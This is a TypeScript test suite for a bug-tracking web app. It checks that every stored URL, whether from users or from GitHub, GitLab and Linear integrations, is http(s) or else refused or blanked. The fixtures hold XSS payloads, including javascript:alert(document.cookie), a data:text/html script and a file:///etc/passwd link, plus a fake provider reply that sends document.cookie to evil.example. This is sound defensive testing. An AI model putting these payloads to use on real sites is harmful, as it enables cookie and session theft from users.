// Issue 21 item 9: `POST …/bugs/1/issue {"issue_url": "javascript:…"}` was stored (201) and rendered
// as a link, and a self-hosted GitHub or GitLab (or a tracker) answering a `javascript:` link was stored
// the same way. Every URL stored from a user is http(s) or refused with 400, changing nothing; a link a
// provider answers that is not http(s) is not stored (the link keeps its number and title, with no URL).
import { sql } from 'drizzle-orm'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { rowsOf } from '../../src/db/client'
import { isWebUrl } from '../../src/net/web-url'
import { createProject, createReportIn, createUser, type TestProject, type TestUser } from '../helpers/fixtures'
import { createTestApp, type TestApp } from '../helpers/test-app'
import { startFakeGit } from '../git/fake-git'
import { connect, type Call, integrationsTestbed, json } from '../integrations/helpers'

const HOSTILE = ['javascript:alert(document.cookie)', 'JavaScript:alert(1)', ' javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', '//evil.example/x', 'file:///etc/passwd']

describe('isWebUrl', () => {
  it.each(['https://example.com', 'http://127.0.0.1:8080/x?y=1#z', 'HTTPS://EXAMPLE.COM/'])('accepts %s', (url) => expect(isWebUrl(url)).toBe(true))
  it.each([...HOSTILE, '', 'https://', 'example.com', 'mailto:a@b.c'])('refuses %j', (url) => expect(isWebUrl(url)).toBe(false))
})

describe('URLs from users', () => {
  let fake: ReturnType<typeof startFakeGit>
  let t: TestApp
  let owner: TestUser
  let project: TestProject
  beforeEach(async () => {
    fake = startFakeGit()
    t = createTestApp({ env: { GLITCHBOX_PROVIDER_URL_GITHUB: fake.url, GLITCHBOX_ALLOW_PRIVATE_TARGETS: 'true' } })
    owner = await createUser(t, { plan: 'studio' })
    project = await createProject(t, owner)
  })
  afterEach(() => {
    fake.stop()
    return t.close()
  })
  const count = async (table: string) => (await t.deps.db.read((q) => rowsOf(q, sql`SELECT cast(count(*) AS int) AS n FROM ${sql.identifier(table)}`)))[0]

  const base = () => `/api/projects/${project.slug}`
  const routes: [string, string, (url: string) => Record<string, unknown>, string][] = [
    ['PATCH', '', (url) => ({ website_url: url }), 'website_url'],
    ['PATCH', '', (url) => ({ logo_url: url }), 'logo_url'],
    ['PUT', '/branding', (url) => ({ logo_url: url }), 'logo_url'],
    ['PUT', '/tracker-settings', (url) => ({ logo_url: url }), 'logo_url'],
    ['PUT', '/widget-settings', (url) => ({ background_image_url: url }), 'background_image_url'],
    ['POST', '/webhooks/generic', (url) => ({ url }), 'url'],
    ['POST', '/webhooks/discord', (url) => ({ webhook_url: url }), 'webhook_url'],
    ['POST', '/git', (url) => ({ provider: 'github', repo_url: url, access_token: 'gh-good-token' }), 'repo_url'],
  ]

  it.each(routes)('%s %s refuses every URL but http(s) with 400 naming the field', async (method, path, body, field) => {
    const snapshot = async () => JSON.stringify(await t.deps.db.read(async (q) => [await rowsOf(q, sql`SELECT * FROM projects ORDER BY id`), await rowsOf(q, sql`SELECT * FROM project_settings ORDER BY project_id, kind`)]))
    const before = await snapshot()
    for (const url of HOSTILE) {
      const res = await t.request(method, `${base()}${path}`, { token: owner.token, body: body(url) })
      expect(res.status, `${url}`).toBe(400)
      expect(res.body.error).toContain(field)
    }
    expect(await snapshot()).toBe(before)
    expect(await count('webhooks')).toEqual({ n: 0 })
    expect(await count('git_connections')).toEqual({ n: 0 })
  })

  it('PATCH /auth/profile refuses an avatar_url that is not http(s)', async () => {
    for (const url of HOSTILE) expect((await t.request('PATCH', '/api/auth/profile', { token: owner.token, body: { avatar_url: url } })).status, url).toBe(400)
    expect((await t.request('GET', '/api/auth/me', { token: owner.token })).body.data.avatar_url).toBeNull()
  })

  it('the import refuses an item whose external_url is not http(s) and imports the others', async () => {
    const bugs = [...HOSTILE.map((url, i) => ({ title: `Imported ${i}`, external_url: url })), { title: 'Fine', external_url: 'https://old.tracker/1' }]
    const res = await t.request('POST', `${base()}/import`, { token: owner.token, body: { bugs } })
    expect(res.status).toBe(200)
    expect(res.body.data.created).toBe(1)
    expect(res.body.data.errors.map((e: { index: number; error: string }) => [e.index, /external_url/.test(e.error)])).toEqual(HOSTILE.map((_, i) => [i, true]))
  })

  it('POST /bugs/{number}/issue refuses an issue_url that is not http(s) and links nothing', async () => {
    expect((await t.request('POST', `${base()}/git`, { token: owner.token, body: { provider: 'github', repo_url: 'https://github.com/acme/game', access_token: 'gh-good-token' } })).status).toBe(201)
    const report = await createReportIn(t, project)
    for (const url of HOSTILE) {
      const res = await t.request('POST', `${base()}/bugs/${report.reportNumber}/issue`, { token: owner.token, body: { issue_number: 7, issue_url: url, issue_title: 'Crash' } })
      expect(res.status, url).toBe(400)
      expect(res.body.error).toContain('issue_url')
    }
    expect(await count('git_issue_links')).toEqual({ n: 0 })
    const fine = await t.request('POST', `${base()}/bugs/${report.reportNumber}/issue`, { token: owner.token, body: { issue_number: 7, issue_url: 'https://github.com/acme/game/issues/7', issue_title: 'Crash' } })
    expect(fine.status).toBe(201)
    expect(fine.body.data.issue_url).toBe('https://github.com/acme/game/issues/7')
  })
})

describe('links answered by a repository host', () => {
  let fake: ReturnType<typeof startFakeGit>
  let t: TestApp
  let owner: TestUser
  let project: TestProject
  beforeEach(async () => {
    fake = startFakeGit()
    fake.state.issueUrl = 'javascript:fetch("//evil.example/"+document.cookie)'
    t = createTestApp({ env: { GLITCHBOX_PROVIDER_URL_GITHUB: fake.url, GLITCHBOX_ALLOW_PRIVATE_TARGETS: 'true' } })
    owner = await createUser(t)
    project = await createProject(t, owner)
  })
  afterEach(() => {
    fake.stop()
    return t.close()
  })

  it.each([
    ['GitHub Enterprise', { provider: 'github', repo_url: 'SELF/acme/game', access_token: 'gh-good-token' }],
    ['a self-hosted GitLab', { provider: 'gitlab', repo_url: 'SELF/games/studio/engine', access_token: 'glpat-good-token' }],
  ])('%s answering javascript: links: the issue is linked without a URL, and searches show none', async (_, body) => {
    const base = `/api/projects/${project.slug}`
    const connected = await t.request('POST', `${base}/git`, { token: owner.token, body: { ...body, repo_url: body.repo_url.replace('SELF', fake.url) } })
    expect(connected.status).toBe(201)
    const filed = await t.request('POST', `${base}/bugs/${(await createReportIn(t, project)).reportNumber}/issue`, { token: owner.token })
    expect(filed.status).toBe(201)
    expect(filed.body.data).toMatchObject({ issue_number: 42, issue_url: '' })
    const linked = await t.request('POST', `${base}/bugs/${(await createReportIn(t, project)).reportNumber}/issue`, { token: owner.token, body: { issue_number: 9 } })
    expect(linked.body.data).toMatchObject({ issue_number: 9, issue_url: '' })
    const found = await t.request('GET', `${base}/git/issues?q=boot`, { token: owner.token })
    expect(found.status).toBe(200)
    expect(found.body.data.length).toBeGreaterThan(0)
    expect(found.body.data.every((i: { issue_url: string }) => i.issue_url === '')).toBe(true)
    expect(JSON.stringify(await t.deps.db.read((q) => rowsOf(q, sql`SELECT * FROM git_issue_links`)))).not.toContain('javascript')
  })
})

describe('links answered by an issue tracker', () => {
  const bed = integrationsTestbed()
  const KEY = 'lin_api_0123456789abcdefghijklmnop'
  const TEAM = '9cfb482a-81e3-4154-b5b9-2c805e70a02d'
  const linear = (c: Call) => {
    const q: string = c.json?.query ?? ''
    if (q.includes('issueCreate')) return json(200, { data: { issueCreate: { success: true, issue: { id: 'uuid-1', identifier: 'GAME-1', url: 'javascript:alert(1)', title: 'x', state: { name: 'Todo' } } } } })
    if (q.includes('team(')) return json(200, { data: { team: { id: TEAM, name: 'Game' } } })
    return json(400, { errors: [{ message: 'unexpected query' }] })
  }

  it('stores the issue without its javascript: URL', async () => {
    bed.fake.answer = linear
    const id = await connect(bed, 'linear', { secret: KEY, config: { team_id: TEAM } })
    const report = await createReportIn(bed.t, bed.project)
    const res = await bed.t.request('POST', `/api/projects/${bed.project.slug}/bugs/${report.reportNumber}/issues`, { token: bed.owner.token, body: { integration_id: id } })
    expect(res.status).toBe(201)
    expect(res.body.data).toMatchObject({ external_id: 'GAME-1', url: '' })
    expect(JSON.stringify(await bed.t.deps.db.read((q) => rowsOf(q, sql`SELECT * FROM integration_links`)))).not.toContain('javascript')
  })
})
